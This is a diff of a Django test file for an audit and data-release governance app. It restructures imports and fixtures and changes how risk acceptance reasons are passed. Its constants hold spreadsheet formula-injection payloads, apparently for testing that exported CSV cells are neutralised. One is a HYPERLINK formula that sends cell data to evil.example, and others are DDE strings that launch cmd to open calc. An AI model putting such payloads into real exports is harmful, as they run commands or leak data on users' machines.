@@ -16,8 +16,9 @@ from django.utils import timezone
 from rest_framework.test import APIClient
 
 from audits.compliance import compliance_report_build, compliance_report_render, csv_cell
-from audits.models import AuditKind, AuditRun, AuditStatus, CheckResult, ComplianceReport, Datasheet
-from audits.services import datasheet_verify, risk_accept
+from audits.models import AuditKind, AuditRun, AuditStatus, CheckResult, ComplianceReport
+from audits.releases import release_create, release_download
+from audits.services import datasheet_issue, datasheet_verify, risk_accept
 from core.errors import NotFoundError, PermissionDeniedError, ValidationError
 from governance.models import AuditEvent, DataRequest, RequestState
 from governance.services import (
@@ -26,8 +27,6 @@ from governance.services import (
     access_request_withdraw,
     budget_balance,
     budget_spend,
-    release_create,
-    release_download,
     request_transition,
 )
 from tests.governance.factories import PurposeFactory, dataset_register_adult, request_file
@@ -36,7 +35,7 @@ pytestmark = pytest.mark.django_db
 
 HOSTILE_JUSTIFICATION = '=HYPERLINK("http://evil.example/?x="&A1,"open me")'
 HOSTILE_REJECTION = "@SUM(1+1)*cmd|' /C calc'!A0"
-HOSTILE_ACCEPTANCE = "+1+cmd|' /C calc'!A0"
+HOSTILE_ACCEPTANCE = "+1+cmd|' /C calc'!A0 accepted: the marginal gap is small for this research use"
 HOSTILE_WITHDRAWAL = "-2+3"
 
 
@@ -72,15 +71,7 @@ def _blocked_by_a_failed_audit(request: DataRequest) -> AuditRun:
         direction="lower_is_better",
         passed=False,
     )
-    Datasheet.objects.create(
-        run=run,
-        version=version,
-        storage_key="datasheets/none.pdf",
-        sha256="f" * 64,
-        size_bytes=1,
-        signer="test",
-        signed_at=timezone.now(),
-    )
+    datasheet_issue(run=run)  # a real signed report: the release gate verifies it
     return run
 
 
@@ -103,7 +94,7 @@ def history(cast, adult_schema):
         actor=None,
     )
     _blocked_by_a_failed_audit(released)
-    risk_accept(actor=cast.second_approver, request_id=released.pk, reason=HOSTILE_ACCEPTANCE)
+    risk_accept(actor=cast.second_approver, request_id=released.pk, reasons={"tvd_1way": HOSTILE_ACCEPTANCE})
     release = release_create(actor=cast.approver, request_id=released.pk)
     release_download(actor=cast.requester, release_id=release.pk, kind="data")
 
